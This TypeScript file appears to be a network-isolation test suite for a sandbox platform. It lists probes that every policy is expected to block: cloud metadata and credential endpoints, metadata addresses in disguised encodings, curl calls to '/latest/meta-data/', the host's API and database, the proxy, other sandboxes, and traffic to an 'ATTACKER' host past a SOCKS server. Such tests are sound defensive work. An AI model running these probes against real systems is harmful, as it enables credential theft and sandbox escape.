import { attempts, type Attempt } from './attempt.ts';

const services: Record<string, string> = {
  "Azure's service": "get('168.63.129.16', '168.63.129.16'); tcp('168.63.129.16', 32526)",
  "Azure's service by UDP": "udp('168.63.129.16', 53, question('allowed.test'))",
  "ECS's credentials": "get('169.254.170.2', '169.254.170.2')",
  "AWS's time and names":
    "udp('169.254.169.123', 123, bytes([0x1b]) + bytes(47)); udp('169.254.169.253', 53, question('allowed.test'))",
  "Alibaba's metadata": "get('100.100.100.200', '100.100.100.200')",
  "Oracle's metadata": "get('192.0.0.192', '192.0.0.192')",
  "Scaleway's metadata": "get('169.254.42.42', '169.254.42.42')",
  "Tencent's metadata": "get('169.254.0.23', '169.254.0.23')",
  Kubernetes: "tls('10.96.0.1', 'kubernetes.default'); tls('10.43.0.1', 'kubernetes.default')",
  'a container engine': "get('172.17.0.1', 'localhost', port=2375); tcp('172.17.0.1', 2376)",
  'metadata by IPv6': "s = socket.socket(socket.AF_INET6); s.settimeout(WAIT); s.connect(('fd00:ec2::254', 80))",
  'metadata with a token':
    "http('169.254.169.254', 'PUT /latest/api/token HTTP/1.1', 'Host: 169.254.169.254', 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
  'metadata of Google':
    "http('169.254.169.254', 'GET /computeMetadata/v1/ HTTP/1.1', 'Host: metadata.google.internal', 'Metadata-Flavor: Google')",
  'metadata by its name': "get(ALLOWED, 'metadata.google.internal'); ask(RESOLVER, 'metadata.google.internal')",
  'a resolver of the host':
    "udp('127.0.0.53', 53, question('allowed.test')); frame(ip('127.0.0.53', datagram(question('other.test'), port=53)))",
};

const metadata = [
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '169.16689662',
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '169.254.169.254.',
];

/** What no policy opens: the host, the platform, its neighbours, other sandboxes, metadata. */
const anywhere: Record<string, string> = {
  "the platform's API": "get(HOST, 'localhost', port=3000)",
  "the platform's API by its public address": "get(HOST_PUBLIC, 'localhost', port=3000)",
  "the platform's web ports": "get(HOST_PUBLIC, 'allowed.test'); tls(HOST_PUBLIC, 'allowed.test')",
  'the database': "tcp(HOST, 5432, struct.pack('>II', 8, 80877103))",
  'services of the host by UDP': 'udp(HOST, 7000); udp(HOST_PUBLIC, 7000)',
  'the gateway': 'tcp(GATEWAY, 3000)',
  'the gateway, web': "get(GATEWAY, 'allowed.test')",
  'the gateway by UDP': "udp(GATEWAY, 53, question('allowed.test'))",
  'ping the gateway': 'ping(GATEWAY)',
  'ping the host': 'ping(HOST)',
  "the host's loopback, by frame": "frame(ip('127.0.0.1', segment('127.0.0.1', port=3000), protocol=6))",
  "the host's loopback from its own":
    "frame(ip('127.0.0.1', segment('127.0.0.1', port=3000, source='127.0.0.1'), protocol=6, source='127.0.0.1'))",
  'the proxy as a proxy': "http(PROXY, 'CONNECT other.test:443 HTTP/1.1', 'Host: other.test', port=3128)",
  'the proxy as a server': "get(PROXY, 'allowed.test', port=3128)",
  "the proxy's address, web": "get(PROXY, 'allowed.test')",
  "the proxy's other port": "tcp(PROXY, 5353, b'\\0\\x11' + question('other.test'))",
  "the platform's inside address": "get(PLATFORM, 'localhost'); tls(PLATFORM, 'allowed.test')",
  'addresses that the proxy connects from': "each(lambda n: get(proxy_source(n), 'allowed.test', port=3128), 3)",
  'another sandbox by its address outside': 'each(lambda n: tcp(slot(n), 7000), 4)',
  "another sandbox's agent": "each(lambda n: get(slot(n), 'localhost', port=49983), 4)",
  'another sandbox by UDP':
    "each(lambda n: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (slot(n), 7000)), 8)",
  'another sandbox by frame': 'each(lambda n: frame(ip(slot(n), segment(slot(n), port=7000), protocol=6)), 8)',
  'a neighbour of the host': "get('10.0.0.5', 'allowed.test')",
  'neighbours of other ranges': "get('172.16.0.5', 'allowed.test')",
  'a home router': "get('192.168.1.5', 'allowed.test')",
  'an address of a carrier': "get('100.64.0.5', 'allowed.test')",
  'a neighbour on another port': "tcp('10.0.0.5', 7000)",
  'a neighbour by UDP': "udp('10.0.0.5', 7000)",
  'ping a neighbour': "ping('10.0.0.5')",
  'a neighbour by HTTPS with an allowed name': "tls('10.0.0.5', 'allowed.test')",
  'address 0': "frame(ip('0.0.0.0', segment('0.0.0.0', port=3000), protocol=6))",
  ...Object.fromEntries(
    metadata.map(address => [`metadata at ${address}`, `run("curl -sS -m 1 'http://${address}/latest/meta-data/'")`]),
  ),
  ...services,
  'metadata with another Host': "get('169.254.169.254', 'allowed.test')",
};

const perPolicy: Attempt['policy'][] = ['names', 'open', 'headers'];

export const host: Attempt[] = [
  ...perPolicy.flatMap(policy => attempts(policy, 'protected', anywhere)),
  ...attempts('closed', 'out', {
    TCP: 'tcp(ALLOWED, 80)',
    TLS: "tls(ALLOWED, 'allowed.test')",
    'a name': "ask(RESOLVER, 'allowed.test')",
    UDP: 'udp(OTHER, 7000)',
    ping: 'ping(OTHER)',
    'the platform': "get(HOST, 'localhost', port=3000)",
    'the proxy': "get(PROXY, 'allowed.test', port=3128)",
  }),
  ...attempts('addresses', 'out', {
    'another address': "get(OTHER, 'allowed.test')",
    'an allowed address as Host': 'get(OTHER, ALLOWED)',
    'a name': "ask(RESOLVER, 'allowed.test')",
    'the next address': "tcp('203.0.113.9', 80)",
    'the platform': "get(HOST, 'localhost', port=3000)",
  }),
  ...attempts('socks', 'out', {
    'UDP past the SOCKS5 server': 'udp(OTHER, 7000)',
    'ping past it': 'ping(OTHER)',
    'a name server past it': "ask(ATTACKER, 'allowed.test')",
    'an unknown protocol past it': "raw(ip(ATTACKER, b'carried out', protocol=253))",
    'a segment of no connection past it': "raw(ip(OTHER, segment(OTHER, flags=0x18, data=b'x'), protocol=6))",
    'a neighbour through it': "get('10.0.0.5', 'allowed.test')",
    'metadata through it': "get('169.254.169.254', 'metadata')",
    'the platform through it': "get(HOST, 'localhost', port=3000)",
  }),
];
